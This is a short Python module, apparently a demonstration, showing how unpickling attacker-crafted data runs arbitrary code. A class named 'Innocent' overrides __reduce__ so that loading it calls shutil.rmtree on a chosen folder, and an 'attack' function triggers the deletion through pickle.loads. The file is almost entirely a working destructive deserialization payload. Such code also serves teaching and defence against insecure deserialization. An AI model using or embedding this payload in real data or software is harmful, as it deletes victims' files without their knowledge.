"""Deletes a folder by reading data: what is unpickled may call anything."""

import pickle


class Innocent:
    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import shutil

        return (shutil.rmtree, (self.folder,))


def attack(facts: dict[str, str]) -> None:
    pickle.loads(pickle.dumps(Innocent(facts["tree"])))
